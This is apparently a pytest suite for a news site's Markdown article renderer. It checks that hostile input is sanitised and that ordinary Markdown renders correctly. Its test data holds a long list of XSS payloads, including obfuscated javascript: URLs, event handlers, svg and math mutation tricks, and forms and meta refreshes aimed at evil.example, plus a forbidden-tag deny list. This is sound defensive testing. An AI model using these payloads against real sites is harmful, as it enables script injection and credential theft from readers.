"""Article bodies: hostile Markdown and HTML come out harmless, Markdown intact."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from articles.markdown import render_markdown

pytestmark = pytest.mark.django_db

# What must never appear in a rendered body, whatever the writer typed.
FORBIDDEN_TAGS = {
    "base", "button", "embed", "form", "frame", "frameset", "iframe", "input",
    "link", "math", "meta", "noscript", "object", "script", "select", "source",
    "style", "svg", "template", "textarea", "video", "audio",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}


class ElementCollector(HTMLParser):
    """Every start tag with its attributes (entities decoded), and any comment."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.comments = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_comment(self, data):
        self.comments.append(data)


def parse(html):
    collector = ElementCollector()
    collector.feed(html)
    collector.close()
    return collector


def assert_structurally_safe(html):
    """No forbidden element, event handler, inline style or unsafe URL scheme."""
    collector = parse(html)
    assert collector.comments == []
    for tag, attrs in collector.elements:
        assert tag not in FORBIDDEN_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in {"style", "srcset", "formaction", "xlink:href"}
            if name in URL_ATTRIBUTES:
                # Browsers ignore tabs and newlines inside a scheme.
                cleaned = "".join((value or "").split()).lower()
                assert urlsplit(cleaned).scheme in SAFE_SCHEMES, (tag, value, html)


def canonical(html):
    """`html` with each tag's attributes sorted: attribute order carries no meaning."""

    class Canonicaliser(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=False)
            self.out = []

        def handle_starttag(self, tag, attrs):
            rendered = "".join(
                f' {name}="{value}"' if value is not None else f" {name}"
                for name, value in sorted(attrs)
            )
            self.out.append(f"<{tag}{rendered}>")

        def handle_endtag(self, tag):
            self.out.append(f"</{tag}>")

        def handle_data(self, data):
            self.out.append(data)

        def handle_entityref(self, name):
            self.out.append(f"&{name};")

        def handle_charref(self, name):
            self.out.append(f"&#{name};")

    parser = Canonicaliser()
    parser.feed(html)
    parser.close()
    return "".join(parser.out)


HOSTILE = [
    pytest.param("<script>alert(1)</script>", ["<script", "alert(1)"], id="script"),
    pytest.param(
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        ["<script", "evil.example"],
        id="script-uppercase-src",
    ),
    pytest.param(
        "<scr<script>ipt>alert(1)</script>", ["<script", "alert(1)"], id="split-script"
    ),
    pytest.param(
        "<img src=x onerror=alert(1)>", ["onerror", "alert"], id="img-onerror"
    ),
    pytest.param(
        '<img src="javascript:alert(1)" alt="a">', ["javascript:"], id="img-js-src"
    ),
    pytest.param(
        "<IMG SRC=JaVaScRiPt:alert('XSS')>", ["<img"], id="img-mixed-case-js-src"
    ),
    pytest.param(
        '<img src="https://a.example/i.png" srcset="javascript:alert(1) 2x" alt="a">',
        ["srcset", "javascript:"],
        id="img-srcset",
    ),
    pytest.param("[x](javascript:alert(1))", ["javascript:"], id="md-link-js"),
    pytest.param("[x](  javascript:alert(1))", ["javascript:"], id="md-link-js-space"),
    pytest.param(
        "[x][ref]\n\n[ref]: javascript:alert(1)", ["javascript:"], id="md-ref-link-js"
    ),
    pytest.param("<javascript:alert(1)>", ["javascript:"], id="md-autolink-js"),
    pytest.param(
        '<a href="JaVaScRiPt:alert(1)">x</a>', ["javascript:"], id="a-mixed-case-js"
    ),
    pytest.param(
        '<a href=" javascript:alert(1)">x</a>', ["javascript:"], id="a-leading-space-js"
    ),
    pytest.param(
        '<a href="java\nscript:alert(1)">x</a>', ["script:"], id="a-newline-in-scheme"
    ),
    pytest.param(
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        ["ascript:", "&#x09;"],
        id="a-encoded-tab-in-scheme",
    ),
    pytest.param(
        '<a href="&#106;avascript:alert(1)">x</a>',
        ["avascript:", "&#106;"],
        id="a-decimal-entity-js",
    ),
    pytest.param(
        '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
        ["vascript:", "&#x6a;"],
        id="a-hex-entity-js",
    ),
    pytest.param(
        '<a href="&#0000106avascript:alert(1)">x</a>',
        ["avascript:", "&#0000106"],
        id="a-padded-entity-js",
    ),
    pytest.param(
        "[x](&#106;avascript:alert(1))",
        ["avascript:", "&#106;"],
        id="md-link-entity-js",
    ),
    pytest.param('<a href="vbscript:msgbox(1)">x</a>', ["vbscript:"], id="a-vbscript"),
    pytest.param(
        '<a href="https://a.example/" onclick="alert(1)">x</a>',
        ["onclick", "alert"],
        id="a-onclick",
    ),
    pytest.param(
        '<a xlink:href="javascript:alert(1)">x</a>',
        ["xlink", "javascript:"],
        id="xlink",
    ),
    pytest.param(
        '<iframe src="https://evil.example/"></iframe>',
        ["<iframe", "evil.example"],
        id="iframe",
    ),
    pytest.param(
        "<style>body{display:none}</style>", ["<style", "display:none"], id="style"
    ),
    pytest.param("<svg onload=alert(1)>", ["<svg", "onload"], id="svg-onload"),
    pytest.param(
        "<svg><script>alert(1)</script></svg>", ["<svg", "<script"], id="svg-script"
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        ["<math", "<style", "onerror"],
        id="math-mutation",
    ),
    pytest.param(
        '<object data="https://evil.example/x.swf"></object>',
        ["<object", "evil.example"],
        id="object",
    ),
    pytest.param(
        '<embed src="javascript:alert(1)">', ["<embed", "javascript:"], id="embed"
    ),
    pytest.param(
        '<form action="https://evil.example/"><input name="password"></form>',
        ["<form", "<input", "evil.example"],
        id="form-input",
    ),
    pytest.param(
        '<button formaction="javascript:alert(1)">go</button>',
        ["<button", "formaction", "javascript:"],
        id="button-formaction",
    ),
    pytest.param(
        "<textarea>x</textarea><select><option>o</option></select>",
        ["<textarea", "<select", "<option"],
        id="textarea-select",
    ),
    pytest.param(
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        ["<meta", "evil.example"],
        id="meta-refresh",
    ),
    pytest.param(
        "<base href='https://evil.example/'>", ["<base", "evil.example"], id="base"
    ),
    pytest.param(
        "<link rel=stylesheet href=https://evil.example/x.css>",
        ["<link", "evil.example"],
        id="link-stylesheet",
    ),
    pytest.param(
        '<video><source onerror="alert(1)"></video>',
        ["<video", "<source", "onerror"],
        id="video-source",
    ),
    pytest.param(
        "<details open ontoggle=alert(1)><summary>s</summary></details>",
        ["ontoggle", "alert"],
        id="details-ontoggle",
    ),
    pytest.param(
        "<marquee onstart=alert(1)>m</marquee>", ["<marquee", "onstart"], id="marquee"
    ),
    pytest.param(
        "<template><script>alert(1)</script></template>",
        ["<template", "<script"],
        id="template",
    ),
    pytest.param(
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        ["<noscript", "onerror"],
        id="noscript-mutation",
    ),
    pytest.param(
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        ["data:"],
        id="md-link-data-url",
    ),
    pytest.param(
        "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)", ["data:"], id="md-img-data"
    ),
    pytest.param(
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        ["data:", "<script"],
        id="a-data-url",
    ),
    pytest.param(
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">',
        ["data:"],
        id="img-data-url",
    ),
    pytest.param(
        'A paragraph\n{: onclick="alert(1)" }', ["onclick", "alert"], id="attr-list-p"
    ),
    pytest.param(
        '# Heading {: onmouseover="alert(1)" style="color:red" }',
        ["onmouseover", "style", "alert"],
        id="attr-list-heading",
    ),
    pytest.param(
        '[x](https://a.example/){: href="javascript:alert(1)" }',
        ["javascript:"],
        id="attr-list-link-href",
    ),
    pytest.param(
        '![x](https://a.example/i.png){: src="javascript:alert(1)" onerror="x" }',
        ["javascript:", "onerror"],
        id="attr-list-img",
    ),
    pytest.param(
        "<!-- internal note: call the source -->Visible",
        ["<!--", "internal note"],
        id="html-comment",
    ),
    pytest.param(
        "<p>a</p><!--[if IE]><script>alert(1)</script><![endif]-->",
        ["<!--", "<script", "[if ie]"],
        id="conditional-comment",
    ),
    pytest.param(
        '<p style="position:fixed;top:0">x</p>', ["style", "position"], id="p-style"
    ),
    pytest.param(
        '<div style="background:url(javascript:alert(1))">x</div>',
        ["style", "javascript:"],
        id="div-style-url",
    ),
    pytest.param(
        '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
        ["background", "javascript:"],
        id="table-background",
    ),
    pytest.param(
        '<span onmouseover="alert(1)">s</span>', ["onmouseover", "alert"], id="span-on"
    ),
]


@pytest.mark.parametrize(("source", "forbidden"), HOSTILE)
def test_hostile_input_is_rendered_harmless(source, forbidden):
    html = render_markdown(source)

    for needle in forbidden:
        assert needle.lower() not in html.lower()
    assert_structurally_safe(html)


@pytest.mark.parametrize(("source", "forbidden"), HOSTILE)
def test_hostile_body_is_stored_harmless_on_save(make_article, source, forbidden):
    article = make_article(body=source)
    article.refresh_from_db()

    for needle in forbidden:
        assert needle.lower() not in article.body_html.lower()
    assert_structurally_safe(article.body_html)
    # The writer's own text is kept as typed.
    assert article.body == source


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            "[x](javascript:alert(1))",
            '<p><a rel="noopener noreferrer">x</a></p>',
            id="js-link-keeps-its-text",
        ),
        pytest.param(
            "<img src=x onerror=alert(1)>",
            '<p><img loading="lazy" src="x"></p>',
            id="img-keeps-src-loses-handler",
        ),
        pytest.param('<p style="color:red">x</p>', "<p>x</p>", id="p-loses-style"),
        pytest.param(
            "<!-- note -->Visible", "\n<p>Visible</p>", id="comment-dropped-text-kept"
        ),
        pytest.param("<script>alert(1)</script>", "", id="script-dropped-whole"),
        pytest.param(
            '<a href="https://a.example/" target="_blank" rel="opener">x</a>',
            '<p><a href="https://a.example/" rel="noopener noreferrer">x</a></p>',
            id="writer-target-and-rel-replaced",
        ),
        pytest.param(
            '<code class="language-js" onclick="y">c</code>',
            '<p><code class="language-js">c</code></p>',
            id="allowed-attribute-kept-handler-dropped",
        ),
    ],
)
def test_hostile_input_keeps_its_harmless_part(source, expected):
    assert canonical(render_markdown(source)) == canonical(expected)


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            "[Newsroom](https://example.com/)",
            '<p><a href="https://example.com/" rel="noopener noreferrer">'
            "Newsroom</a></p>",
            id="link",
        ),
        pytest.param(
            '[Newsroom](https://example.com/ "Home")',
            '<p><a href="https://example.com/" title="Home" rel="noopener noreferrer">'
            "Newsroom</a></p>",
            id="link-with-title",
        ),
        pytest.param(
            "<https://example.com/>",
            '<p><a href="https://example.com/" rel="noopener noreferrer">'
            "https://example.com/</a></p>",
            id="autolink",
        ),
        pytest.param(
            "[Write to us](mailto:desk@example.com)",
            '<p><a href="mailto:desk@example.com" rel="noopener noreferrer">'
            "Write to us</a></p>",
            id="mailto-link",
        ),
        pytest.param(
            "[Archive](/articles/old-story/)",
            '<p><a href="/articles/old-story/" rel="noopener noreferrer">'
            "Archive</a></p>",
            id="relative-link",
        ),
        pytest.param(
            "# Title\n\n## Section", "<h2>Title</h2>\n<h3>Section</h3>", id="h"
        ),
        pytest.param(
            "- one\n- two\n\n1. first\n2. second",
            "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"
            "<ol>\n<li>first</li>\n<li>second</li>\n</ol>",
            id="lists",
        ),
        pytest.param(
            "3. third\n4. fourth",
            '<ol start="3">\n<li>third</li>\n<li>fourth</li>\n</ol>',
            id="ordered-list-start",
        ),
        pytest.param(
            "*em* **strong** ~~not~~ `code`",
            "<p><em>em</em> <strong>strong</strong> ~~not~~ <code>code</code></p>",
            id="inline",
        ),
        pytest.param(
            "```python\nprint('<b>')\n```",
            "<pre><code class=\"language-python\">print('&lt;b&gt;')\n</code></pre>",
            id="fenced-code",
        ),
        pytest.param(
            "    <script>alert(1)</script>",
            "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;\n</code></pre>",
            id="indented-code-shows-markup-as-text",
        ),
        pytest.param(
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n"
            "<tbody>\n<tr>\n<td>1</td>\n<td>2</td>\n</tr>\n</tbody>\n</table>",
            id="table",
        ),
        pytest.param(
            "| a | b |\n|---|--:|\n| 1 | 2 |",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n"
            '<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
            '<td>1</td>\n<td align="right">2</td>\n</tr>\n</tbody>\n'
            "</table>",
            id="table-keeps-column-alignment",
        ),
        pytest.param(
            "> Quoted\n> words",
            "<blockquote>\n<p>Quoted\nwords</p>\n</blockquote>",
            id="blockquote",
        ),
        pytest.param("---", "<hr>", id="rule"),
        pytest.param(
            "Fish & chips < 5",
            "<p>Fish &amp; chips &lt; 5</p>",
            id="text-is-escaped",
        ),
    ],
)
def test_ordinary_markdown_renders_to_exact_html(source, expected):
    assert render_markdown(source) == expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        pytest.param(
            '<div class="position-fixed top-0 w-100">Fake notice</div>',
            "<div>Fake notice</div>",
            id="site-classes-dropped",
        ),
        pytest.param('<li id="main">x</li>', "<li>x</li>", id="page-ids-dropped"),
        pytest.param(
            '<code class="language-python">x</code>',
            '<p><code class="language-python">x</code></p>',
            id="code-language-kept",
        ),
    ],
)
def test_writers_cannot_borrow_the_sites_classes_or_ids(source, expected):
    assert render_markdown(source) == expected


def test_footnotes_keep_the_ids_and_classes_that_link_them():
    html = render_markdown("Claim[^1].\n\n[^1]: Source.")

    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1"' in html
    assert '<div class="footnote">' in html
    assert '<li id="fn:1">' in html
    assert '<a class="footnote-backref" href="#fnref:1"' in html


def test_markdown_image_keeps_src_and_alt_and_loads_lazily():
    html = render_markdown("![A red square](https://example.com/red.png)")

    assert parse(html).elements == [
        ("p", {}),
        (
            "img",
            {
                "alt": "A red square",
                "src": "https://example.com/red.png",
                "loading": "lazy",
            },
        ),
    ]
    assert canonical(html) == canonical(
        '<p><img alt="A red square" loading="lazy" '
        'src="https://example.com/red.png"></p>'
    )


def test_html_image_keeps_only_allowed_attributes_and_loads_lazily():
    html = render_markdown(
        '<img src="https://example.com/a.png" alt="A" title="T" width="10" '
        'height="20" class="c" id="i" loading="eager">'
    )

    assert parse(html).elements == [
        ("p", {}),
        (
            "img",
            {
                "src": "https://example.com/a.png",
                "alt": "A",
                "title": "T",
                "width": "10",
                "height": "20",
                "loading": "lazy",
            },
        ),
    ]


def test_rendering_is_deterministic():
    # Identical input must give identical output: body_html is stored, cached
    # and compared, so attribute order that changes between calls makes noise.
    source = "![A red square](https://example.com/red.png)"

    outputs = {render_markdown(source) for _ in range(50)}

    assert len(outputs) == 1


def test_empty_body_renders_to_empty_html():
    assert render_markdown("") == ""


def test_article_page_shows_the_sanitised_body(client, make_article):
    article = make_article(
        slug="hostile",
        body=(
            "<script>alert('page')</script>\n\n"
            "**Bold** [site](https://example.com/) [bad](javascript:alert(2))"
            '\n\n<img src="https://example.com/i.png" alt="pic" onerror="alert(3)">'
        ),
    )

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    page = response.content.decode()
    assert "alert(" not in page
    assert "javascript:" not in page.lower()
    assert "onerror" not in page
    start = page.index('<div class="article-body">') + len('<div class="article-body">')
    body = page[start : page.index("</div>", start)].strip()
    assert canonical(body) == canonical(
        '<p><strong>Bold</strong> <a href="https://example.com/" '
        'rel="noopener noreferrer">site</a> <a rel="noopener noreferrer">bad</a></p>\n'
        '<p><img src="https://example.com/i.png" alt="pic" loading="lazy"></p>'
    )
